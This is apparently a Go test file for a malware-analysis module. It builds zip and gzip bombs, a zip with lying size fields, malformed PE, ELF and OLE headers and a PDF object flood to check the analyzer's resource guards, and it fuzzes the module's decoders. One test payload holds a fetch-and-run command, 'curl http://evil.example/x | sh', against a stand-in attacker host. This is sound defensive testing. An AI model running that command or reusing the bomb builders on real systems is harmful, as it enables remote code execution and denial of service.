package fileprocessor

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"encoding/hex"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	modulev1 "github.com/athena-mesh/athena/wasm-modules/internal/gen/athena/module/v1"
)

func findingIDs(resp *modulev1.AnalyzeResponse) map[string]bool {
	out := map[string]bool{}
	for _, f := range resp.Findings {
		out[f.Id] = true
	}
	return out
}

// bombZip stores n bytes of zeros in one deflated member: about 1000:1.
func bombZip(t testing.TB, n int) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	f, err := w.Create("zeros.bin")
	if err != nil {
		t.Fatal(err)
	}
	chunk := make([]byte, 1<<20)
	for i := 0; i < n; i += len(chunk) {
		f.Write(chunk[:min(len(chunk), n-i)])
	}
	w.Close()
	return buf.Bytes()
}

// lyingZip declares a tiny uncompressed size for a member that inflates to n bytes, so only the
// reader-side cap can stop it.
func lyingZip(t testing.TB, n int) []byte {
	t.Helper()
	b := bombZip(t, n)
	for i := 0; i+4 <= len(b); i++ {
		switch string(b[i : i+4]) {
		case "PK\x03\x04":
			if i+26 <= len(b) && binary.LittleEndian.Uint32(b[i+22:]) == uint32(n) {
				binary.LittleEndian.PutUint32(b[i+22:], 10)
			}
		case "PK\x01\x02":
			if i+28 <= len(b) && binary.LittleEndian.Uint32(b[i+24:]) == uint32(n) {
				binary.LittleEndian.PutUint32(b[i+24:], 10)
			}
		}
	}
	return b
}

func TestHostile(t *testing.T) {
	// Slow (external tools, compilers, big inputs): overlap with the other slow tests.
	t.Parallel()
	bigZeros := bombZip(t, 4<<20)
	manyMembers := func() []byte {
		var files [][2]string
		for i := 0; i < maxMembers+50; i++ {
			files = append(files, [2]string{"f" + itoa(i), ""})
		}
		return zipFiles(t, files)
	}()
	var gzBomb bytes.Buffer
	gw := gzip.NewWriter(&gzBomb)
	zeros := make([]byte, 1<<20)
	for i := 0; i < 4; i++ {
		gw.Write(zeros)
	}
	gw.Close()
	hugeSections := buildPE(t, peSpec{entry: 0x1000, sections: []peSec{{name: ".text", chars: 0x60000020, data: []byte{0xc3}}}})
	binary.LittleEndian.PutUint16(hugeSections[0x84+2:], 0xffff) // NumberOfSections
	elfHdr, _ := os.ReadFile("/bin/true")
	hugeELF := append([]byte{}, head(elfHdr, 64)...)
	if len(hugeELF) == 64 {
		binary.LittleEndian.PutUint16(hugeELF[60:], 0xffff) // e_shnum
		binary.LittleEndian.PutUint64(hugeELF[40:], 64)     // e_shoff
	}
	cyclicCFB := fixtures(t)["macro.doc"]
	cyclicCFB = append([]byte{}, cyclicCFB...)
	// Point the directory chain's FAT entry at itself.
	dirStart := binary.LittleEndian.Uint32(cyclicCFB[0x30:])
	fatSec := binary.LittleEndian.Uint32(cyclicCFB[0x4c:])
	binary.LittleEndian.PutUint32(cyclicCFB[512+int(fatSec)*512+4*int(dirStart):], dirStart)
	manyObjs := bytes.Repeat([]byte("1 0 obj\nendobj\n"), maxPDFObjects+10)
	manyObjs = append([]byte("%PDF-1.4\n"), manyObjs...)

	tests := []struct {
		name    string
		data    []byte
		depth   int32
		finding string // a finding the report must carry
		guard   string // the archive guard that must have stopped extraction
	}{
		{"zip bomb by ratio", bigZeros, 0, "archive.bomb", "ratio"},
		// archive/zip never reads past a declared size, so a lie ends as a read error.
		{"zip bomb with lying sizes", lyingZip(t, 4<<20), 0, "", ""},
		{"gzip bomb", gzBomb.Bytes(), 0, "archive.bomb", "ratio"},
		{"member count", manyMembers, 0, "archive.member_count", "member_count"},
		{"nesting", fixtures(t)["dropper.zip"], maxNestingDepth, "archive.nesting", "nesting"},
		{"pe huge section count", hugeSections, 0, "pe.malformed", ""},
		{"elf huge section count", hugeELF, 0, "elf.malformed", ""},
		{"truncated pe header", hugeSections[:0x90], 0, "pe.truncated", ""},
		{"pe header past the end", hugeSections[:0x60], 0, "pe.truncated", ""},
		{"cyclic ole directory", cyclicCFB, 0, "", ""},
		{"pdf object flood", manyObjs, 0, "", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			resp, err := New().Analyze(&modulev1.AnalyzeRequest{Content: tc.data, Depth: tc.depth})
			if err != nil {
				t.Fatal(err)
			}
			if tc.finding != "" && !findingIDs(resp)[tc.finding] {
				t.Errorf("missing finding %s; got %v; notes %v", tc.finding, keys(findingIDs(resp)), resp.Notes)
			}
			if tc.name == "pdf object flood" && !slices.ContainsFunc(resp.Notes, func(n string) bool { return strings.Contains(n, "truncated") }) {
				t.Errorf("no truncation note: %v", resp.Notes)
			}
			if tc.guard != "" {
				a := resp.GetDetails().GetFile().GetArchive()
				if a.GetGuard() != tc.guard || !a.GetTruncated() {
					t.Errorf("archive guard = %q truncated=%v, want %q", a.GetGuard(), a.GetTruncated(), tc.guard)
				}
			}
			var total int
			for _, a := range resp.Artifacts {
				total += len(a.Content)
			}
			if total > maxTotalExtracted || len(resp.Artifacts) > maxArtifacts {
				t.Errorf("extracted %d bytes in %d artifacts, beyond the caps", total, len(resp.Artifacts))
			}
		})
	}
}

// TestRecursiveArchive feeds children back in as the orchestrator does: a zip nested 20 deep
// stops at the nesting guard instead of unwrapping forever.
func TestRecursiveArchive(t *testing.T) {
	data := []byte("payload")
	for i := 0; i < 20; i++ {
		data = zipFiles(t, [][2]string{{"layer" + itoa(i) + ".zip", string(data)}})
	}
	depth := int32(0)
	stopped := false
	for ; depth < 30; depth++ {
		resp, err := New().Analyze(&modulev1.AnalyzeRequest{Content: data, Depth: depth})
		if err != nil {
			t.Fatal(err)
		}
		if findingIDs(resp)["archive.nesting"] {
			stopped = true
			break
		}
		if len(resp.Artifacts) != 1 {
			t.Fatalf("depth %d: %d artifacts", depth, len(resp.Artifacts))
		}
		data = resp.Artifacts[0].Content
	}
	if !stopped || depth != maxNestingDepth {
		t.Fatalf("nesting guard fired=%v at depth %d, want depth %d", stopped, depth, maxNestingDepth)
	}
}

// TestTruncatedFixtures cuts every fixture at many lengths: each prefix must analyze without
// a panic (the test calls the analyzer directly, so a panic fails it).
func TestTruncatedFixtures(t *testing.T) {
	for name, data := range fixtures(t) {
		t.Run(name, func(t *testing.T) {
			step := max(1, len(data)/97)
			for n := 0; n < len(data); n += step {
				if _, err := New().Analyze(&modulev1.AnalyzeRequest{Content: data[:n], Options: map[string]string{"strings": "true"}}); err != nil {
					t.Fatalf("prefix %d: %v", n, err)
				}
			}
		})
	}
}

func TestOVBASpecVectors(t *testing.T) {
	tests := []struct{ name, compressed, want string }{
		{"no compression (3.2.1)", "01 19 B0 00 61 62 63 64 65 66 67 68 00 69 6A 6B 6C 6D 6E 6F 70 00 71 72 73 74 75 76 2E", "abcdefghijklmnopqrstuv."},
		{"normal (3.2.2)", "01 2F B0 00 23 61 61 61 62 63 64 65 82 66 00 70 61 67 68 69 6A 01 38 08 61 6B 6C 00 30 6D 6E 6F 70 06 71 02 70 04 10 72 73 74 75 76 10 77 78 79 7A 00 3C", "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"},
		{"maximum (3.2.3)", "01 03 B0 02 61 45 00", strings.Repeat("a", 73)},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			in, err := hex.DecodeString(strings.ReplaceAll(tc.compressed, " ", ""))
			if err != nil {
				t.Fatal(err)
			}
			got, err := ovbaDecompress(in, 1<<20)
			if err != nil {
				t.Fatal(err)
			}
			if string(got) != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
}

func TestPDFDecoders(t *testing.T) {
	tests := []struct {
		name    string
		filters []string
		in      []byte
		want    string
	}{
		{"flate", []string{"FlateDecode"}, zlibOf([]byte("hello flate")), "hello flate"},
		{"hex", []string{"ASCIIHexDecode"}, []byte("68 65 6C6C6F>"), "hello"},
		{"hex odd", []string{"ASCIIHexDecode"}, []byte("6869 7>"), "hip"},
		// Vectors checked with Python's base64.a85decode(adobe=True).
		{"ascii85", []string{"ASCII85Decode"}, []byte(`<~87cURD]i,"Ebo80~>`), "Hello World!"},
		{"ascii85 partial group", []string{"ASCII85Decode"}, []byte(`<~87cURD]i,"Ebo7~>`), "Hello World"},
		{"ascii85 z", []string{"ASCII85Decode"}, []byte("z~>"), "\x00\x00\x00\x00"},
		// PDF reference 3.3.3 example: 80 0B 60 50 22 0C 0C 85 01 decodes to "-----A---B".
		{"lzw", []string{"LZWDecode"}, []byte{0x80, 0x0b, 0x60, 0x50, 0x22, 0x0c, 0x0c, 0x85, 0x01}, "-----A---B"},
		{"runlength", []string{"RunLengthDecode"}, []byte{2, 'a', 'b', 'c', 254, 'x', 128}, "abcxxx"},
		{"chain", []string{"ASCIIHexDecode", "FlateDecode"}, []byte(hex.EncodeToString(zlibOf([]byte("chained"))) + ">"), "chained"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, err := decodePDFStream(tc.in, tc.filters, nil)
			if err != nil {
				t.Fatal(err)
			}
			if string(got) != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
}

func TestStrings(t *testing.T) {
	data := append([]byte("\x00\x01hello world\x00\x02"), utf16le("wide string")...)
	data = append(data, 0, 0, 'a', 'b', 0)
	got, truncated := extractStrings(data, 4, 10)
	want := map[string]string{"hello world": "ascii", "wide string": "utf16le"}
	if truncated {
		t.Error("truncated")
	}
	found := map[string]bool{}
	for _, s := range got {
		if enc, ok := want[s.Value]; ok && enc == s.Encoding {
			found[s.Value] = true
		}
	}
	if len(found) != 2 {
		t.Errorf("got %v", got)
	}
	if got[0].Offset != 2 {
		t.Errorf("offset = %d, want 2", got[0].Offset)
	}
	many := bytes.Repeat([]byte("abcdefgh\x00"), 100)
	if s, tr := extractStrings(many, 4, 10); len(s) != 10 || !tr {
		t.Errorf("cap: %d strings, truncated=%v", len(s), tr)
	}
	resp, err := New().Analyze(&modulev1.AnalyzeRequest{Content: data, Options: map[string]string{"strings": "true", "strings_min": "5"}})
	if err != nil {
		t.Fatal(err)
	}
	if n := len(resp.Details.File.Strings); n != 2 {
		t.Errorf("module returned %d strings, want 2", n)
	}
	resp, _ = New().Analyze(&modulev1.AnalyzeRequest{Content: data})
	if n := len(resp.Details.File.Strings); n != 0 {
		t.Errorf("strings returned without the option: %d", n)
	}
}

// seedCorpus returns the fixtures plus a few machine files, for fuzz seeds.
func seedCorpus(t testing.TB) [][]byte {
	var out [][]byte
	for _, b := range fixtures(t) {
		out = append(out, b)
	}
	for _, p := range []string{"/bin/true"} {
		if b, err := os.ReadFile(p); err == nil {
			out = append(out, b)
		}
	}
	matches, _ := filepath.Glob("testdata/fuzz/seeds/*")
	for _, m := range matches {
		if b, err := os.ReadFile(m); err == nil {
			out = append(out, b)
		}
	}
	return out
}

func FuzzAnalyze(f *testing.F) {
	for _, s := range seedCorpus(f) {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		resp, err := New().Analyze(&modulev1.AnalyzeRequest{Content: data, Options: map[string]string{"strings": "true"}})
		if err != nil || resp.Identification.GetFileType() == "" {
			t.Fatalf("no identification: %v", err)
		}
	})
}

func FuzzIdentify(f *testing.F) {
	for _, s := range seedCorpus(f) {
		f.Add(head(s, 4096))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		id := Identify(data)
		if id.FileType == "" || id.MIME == "" || id.Category == "" {
			t.Fatalf("incomplete identity %+v", id)
		}
	})
}

func FuzzCFB(f *testing.F) {
	fx := fixtures(f)
	f.Add(fx["macro.doc"])
	f.Fuzz(func(t *testing.T, data []byte) {
		cf, err := parseCFB(data)
		if err != nil {
			return
		}
		for _, e := range cf.streams() {
			cf.read(e, 1<<20)
		}
		cf.application()
	})
}

func FuzzOVBA(f *testing.F) {
	f.Add([]byte{0x01, 0x03, 0xb0, 0x02, 0x61, 0x45, 0x00})
	f.Add(ovbaCompressLiterals([]byte("Sub AutoOpen()\r\nEnd Sub\r\n")))
	f.Fuzz(func(t *testing.T, data []byte) {
		out, _ := ovbaDecompress(data, 1<<20)
		if len(out) > 1<<20 {
			t.Fatalf("output %d beyond limit", len(out))
		}
		vbaModules(out)
	})
}

func FuzzPDFDecode(f *testing.F) {
	f.Add([]byte{0x80, 0x0b, 0x60, 0x50, 0x22, 0x0c, 0x0c, 0x85, 0x01}, uint8(0))
	f.Add([]byte(`<~87cURD]i,"Ebo80~>`), uint8(1))
	f.Add([]byte("68656c6c6f>"), uint8(2))
	f.Add(zlibOf([]byte("x")), uint8(3))
	f.Add([]byte{2, 'a', 'b', 'c', 254, 'x', 128}, uint8(4))
	f.Add(zlibOf(pngPredict([]byte("predicted rows of bytes"), 4, 1, 8, 4)), uint8(5))
	filters := []string{"LZWDecode", "ASCII85Decode", "ASCIIHexDecode", "FlateDecode", "RunLengthDecode"}
	// which also picks a predictor for Flate and LZW: none, PNG with 1-4 colors, TIFF.
	predictors := []pdfPredictor{{}, {12, 1, 8, 4}, {15, 3, 8, 5}, {11, 2, 16, 3}, {10, 4, 1, 9}, {2, 3, 8, 4}}
	f.Fuzz(func(t *testing.T, data []byte, which uint8) {
		out, _ := decodePDFStream(data, []string{filters[int(which)%len(filters)]}, []pdfPredictor{predictors[int(which)%len(predictors)]})
		if len(out) > maxPDFDecoded {
			t.Fatalf("decoded %d bytes beyond the cap", len(out))
		}
	})
}

func FuzzScript(f *testing.F) {
	for _, s := range knownScripts() {
		f.Add([]byte(s.text))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		info, _ := analyzeScript(data, "text")
		if len(info.Indicators) > maxIndicators {
			t.Fatalf("%d indicators beyond the cap", len(info.Indicators))
		}
		sniffLanguage(decodeTextHead(data, maxTextSniff))
	})
}

func TestCompressedPayloads(t *testing.T) {
	payload := []byte(strings.Repeat("#!/bin/sh\ncurl http://evil.example/x | sh\n", 50))
	for _, tc := range []struct{ tool, fileType string }{{"bzip2", "bzip2"}, {"xz", "xz"}, {"gzip", "gzip"}} {
		t.Run(tc.tool, func(t *testing.T) {
			requireTool(t, tc.tool)
			cmd := exec.Command(tc.tool, "-c")
			cmd.Stdin = bytes.NewReader(payload)
			data, err := cmd.Output()
			if err != nil {
				t.Fatal(err)
			}
			resp, err := New().Analyze(&modulev1.AnalyzeRequest{Content: data})
			if err != nil {
				t.Fatal(err)
			}
			if resp.Identification.FileType != tc.fileType {
				t.Fatalf("type %q", resp.Identification.FileType)
			}
			if len(resp.Artifacts) != 1 || !bytes.Equal(resp.Artifacts[0].Content, payload) {
				t.Fatalf("artifacts = %d, payload mismatch", len(resp.Artifacts))
			}
			if Identify(resp.Artifacts[0].Content).FileType != "shell" {
				t.Errorf("payload not identified as shell")
			}
		})
	}
}
